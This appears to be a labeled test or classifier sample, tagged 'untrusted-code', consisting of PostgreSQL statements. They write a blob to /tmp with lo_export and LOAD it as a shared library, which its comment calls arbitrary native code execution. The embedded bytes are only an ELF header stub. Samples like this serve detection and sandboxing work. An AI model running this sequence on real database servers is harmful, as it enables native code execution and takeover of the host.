-- class: untrusted-code
-- Writes a shared library to disk from a large object and LOADs it into the backend (arbitrary native code).
CREATE TABLE plugin_blobs (name text PRIMARY KEY, blob oid);
INSERT INTO plugin_blobs VALUES ('pg_helper', lo_from_bytea(0, decode('7f454c46020101000000000000000000', 'hex')));
SELECT lo_export(blob, '/tmp/pg_helper.so') FROM plugin_blobs WHERE name = 'pg_helper';
LOAD '/tmp/pg_helper.so';
